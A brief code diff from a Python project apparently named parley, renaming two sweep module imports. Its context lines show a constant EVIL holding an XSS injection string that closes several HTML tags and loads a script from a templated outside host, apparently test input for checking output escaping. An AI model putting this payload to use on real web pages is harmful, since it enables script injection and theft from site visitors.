@@ -27,9 +27,9 @@ from parley.presentation.page_registry import write_page
 from parley.presentation.run_page import write_report
 from parley.server.records.run_summary import RunSummary
 from parley.sweeps.sweep_cells import build_sweep
-from parley.sweeps.sweep_figures import draw_figures
-from parley.sweeps.sweep_results import summarise_rows, write_results
+from parley.sweeps.sweep_plots import draw_figures
 from parley.sweeps.sweep_runner import run_cells
+from parley.sweeps.sweep_summary import summarise_rows, write_results
 
 EVIL = (
     "</title></style></text></svg></script>\"'><script src=http://{at}/1></script>"
